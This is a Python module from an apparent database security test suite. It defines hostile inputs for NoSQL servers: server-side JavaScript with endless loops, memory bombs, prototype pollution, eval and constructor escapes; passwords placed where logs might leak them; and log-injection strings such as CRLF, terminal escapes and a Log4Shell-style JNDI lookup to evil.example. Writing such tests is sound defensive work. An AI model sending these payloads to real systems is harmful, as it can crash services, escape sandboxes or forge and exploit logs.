"""Scripts (B23), secrets (B24) and texts that are meant to end up in a log (B25)."""

import base64

from badinput.raw import Pairs, Raw, text
from badinput.wire import msg
from badinput_nosql.wire import A
from lib.nosql import QUERY

from hostile.entry import ITEMS, KEPT, MADE, MARK, Kind, asks, computes, finds, http, raw, runs

COLL = MADE.removesuffix("/docs")
LOOP = "function() { while (true) {} }"
SCRIPTS = {
    "an endless loop": LOOP,
    "a bomb of memory": "function() { var a = []; while (true) a.push(new Array(1e6)); }",
    "a change of all objects": "function() { Object.prototype.isAdmin = true; }",
    "eval": "function() { return eval('process.exit()'); }",
    "a reach for the host": "function() { return this.constructor.constructor('x')(); }",
}


def stored(kind, what, body, **more):
    def data(ask):
        sent = {"id": f"made-{len(body)}", "body": body, **more}
        return ask("POST", f"{COLL}/{kind}", sent)

    return http(f"{kind}: {what}", data)


B23 = Kind(
    "B23",
    "Scripts: $where, $function, mapReduce, stored procedures, triggers, functions of users",
    "ChaosDB (2021), CosMiss (2022)",
    [
        *(finds(f"$where: {what}", {"$where": code}) for what, code in SCRIPTS.items()),
        finds(
            "$where of code with scope",
            {"$where": Raw(15, b"\x15\0\0\0\x08\0\0\0sleep()\0\x05\0\0\0\0")},
        ),
        finds(
            "$expr with $function: an endless loop",
            {"$expr": {"$function": {"body": LOOP, "args": [], "lang": "js"}}},
        ),
        *(
            computes(f"$function: {what}", {"$function": {"body": code, "args": [], "lang": "js"}})
            for what, code in SCRIPTS.items()
        ),
        runs(
            "$accumulator: an endless loop",
            [
                {
                    "$group": {
                        "_id": 1,
                        "x": {
                            "$accumulator": {
                                "init": LOOP,
                                "accumulate": LOOP,
                                "accumulateArgs": [],
                                "merge": LOOP,
                                "lang": "js",
                            }
                        },
                    }
                }
            ],
        ),
        asks(
            "mapReduce: an endless loop",
            ("mapReduce", KEPT),
            ("map", LOOP),
            ("reduce", LOOP),
            ("out", {"inline": 1}),
        ),
        asks("group with a function", ("group", {"ns": KEPT, "$reduce": LOOP})),
        asks("$eval", ("$eval", LOOP)),
        asks(
            "a function that is stored",
            ("insert", "system.js"),
            ("documents", [{"_id": "f", "value": LOOP}]),
        ),
        *(stored("sprocs", what, code) for what, code in SCRIPTS.items()),
        stored("triggers", "an endless loop", LOOP, triggerType="Pre", triggerOperation="All"),
        stored("udfs", "an endless loop", LOOP),
        http(
            "a stored procedure that is run", lambda ask: ask("POST", f"{COLL}/sprocs/made", [MARK])
        ),
        http(
            "a function of a user in a query",
            lambda ask: ask("POST", ITEMS, {"query": "SELECT udf.made(c) FROM c"}, QUERY),
        ),
        http(
            "an item behind a trigger",
            lambda ask: ask(
                "POST",
                MADE,
                {"id": "made", "pk": "a"},
                {**A, "x-ms-documentdb-pre-trigger-include": "made"},
            ),
        ),
    ],
)
PLAIN = base64.b64encode(f"\0eve\0{MARK}".encode())


def user(what, pwd=MARK, **more):
    return asks(what, ("createUser", "eve"), ("pwd", pwd), ("roles", []), *more.items())


B24 = Kind(
    "B24",
    "Secrets where they do not belong: none may be seen in a log",
    "CVE-2026-126838, CVE-2021-20332",
    [
        user("a password in an array", [MARK]),
        user("a password in a document", {"pwd": MARK}),
        user("a password beside a field that nobody knows", unknown=MARK),
        user("a password and a mechanism that is not there", mechanisms=[MARK]),
        user("a password that is no UTF-8", text(f"{MARK}\xff".encode("latin-1"))),
        asks("an explanation of createUser", ("explain", {"createUser": "eve", "pwd": MARK})),
        asks("a password as the name of a command", ("ping", 1), (f"pwd-{MARK}", 1)),
        asks(
            "PLAIN with a password",
            ("saslStart", 1),
            ("mechanism", "PLAIN"),
            ("payload", PLAIN.decode()),
            db="$external",
        ),
        asks(
            "a password in a handshake",
            ("hello", 1),
            (
                "speculativeAuthenticate",
                {"saslStart": 1, "mechanism": "PLAIN", "payload": f"eve:{MARK}", "db": "admin"},
            ),
            db="admin",
        ),
        asks("a password as a parameter", ("setParameter", 1), ("password", MARK), db="admin"),
        raw(
            "a password in broken BSON",
            msg([("createUser", "eve"), ("pwd", MARK), ("$db", "shop")])[:-9] + b"\xff" * 9,
        ),
        http(
            "a password in the user's part of a link",
            lambda ask: ask("GET", f"http://eve:{MARK}@localhost/dbs"),
        ),
        http("a key in a query of a link", lambda ask: ask("GET", f"/dbs?key={MARK}")),
        http("a key in a header", lambda ask: ask("GET", "/dbs", None, {"x-api-key": MARK})),
        http("a key in a cookie", lambda ask: ask("GET", "/dbs", None, {"cookie": f"s={MARK}"})),
        http(
            "a password in Basic",
            lambda ask: ask("GET", "/dbs", None, {"authorization": "Basic " + PLAIN.decode()}),
        ),
        http(
            "a parameter of a query that does not compile",
            lambda ask: ask(
                "POST",
                ITEMS,
                {
                    "query": f"SELECT * FROM c WHERE c.pwd = '{MARK}' AND (",
                    "parameters": [{"name": "@p", "value": MARK}],
                },
                QUERY,
            ),
        ),
    ],
)
SIGNS = {
    "CR and LF": 'a\r\n{"level":"ERROR","message":"forged"}',
    "LF alone": "a\nERROR forged",
    "colours": "\x1b[31mred\x1b[0m",
    "a bell": "\x07",
    "a title of a terminal": "\x1b]0;forged\x07",
    "C1 control characters": "\x9b31m",
    "a line's end of Unicode": "a\u2028b",
    "a turn of the writing's direction": "a\u202eb",
    "a quote and a brace": 'a"} {"forged":"',
    "a format": "{} %s %n ${jndi:ldap://evil.example/x}",
    "1 MB": "n" * (1 << 20),
}

B25 = Kind(
    "B25",
    "Names that would write into a log",
    "CVE-2021-44228 (Log4Shell), forged lines, terminals",
    [
        *(
            entry
            for what, name in SIGNS.items()
            for entry in (
                asks(f"a command of {what}", (name, 1), db="admin"),
                asks(f"a collection of {what}", ("find", name)),
                asks(f"a database of {what}", ("find", KEPT), db=name),
                asks(
                    f"a comment of {what}",
                    ("find", KEPT),
                    ("filter", {"$x": MARK}),
                    ("comment", name),
                ),
                asks(
                    f"an application of {what}",
                    ("hello", 1),
                    ("client", {"application": {"name": name}}),
                    db="admin",
                ),
                asks(
                    f"a user of {what}",
                    ("saslStart", 1),
                    ("mechanism", "SCRAM-SHA-256"),
                    ("payload", b"n,,n=" + name.encode() + b",r=bbbbbbbbbbbbbbbbbbbbbbbb"),
                    db="admin",
                ),
            )
        ),
        asks(
            "a document of 16 MB",
            ("insert", "made"),
            (
                "documents",
                lambda: [
                    Pairs([("_id", MARK), ("s", MARK * (16 << 17)), ("more", "x" * (3 << 20))])
                ],
            ),
        ),
        *(
            http(f"a path of {what}", lambda ask, n=name: ask("GET", f"/dbs/{quoted(n)}"))
            for what, name in SIGNS.items()
            if len(name) < 1000
        ),
        *(
            http(
                f"an agent of {what}",
                lambda ask, n=name: ask(
                    "GET", "/dbs", None, {"user-agent": n.replace("\r", "").replace("\n", "")}
                ),
            )
            for what, name in SIGNS.items()
            if len(name) < 1000
        ),
    ],
)


def quoted(name):
    """Returns a name for a path, with each byte escaped."""
    return "".join(f"%{byte:02x}" for byte in name.encode())


KINDS = [B23, B24, B25]
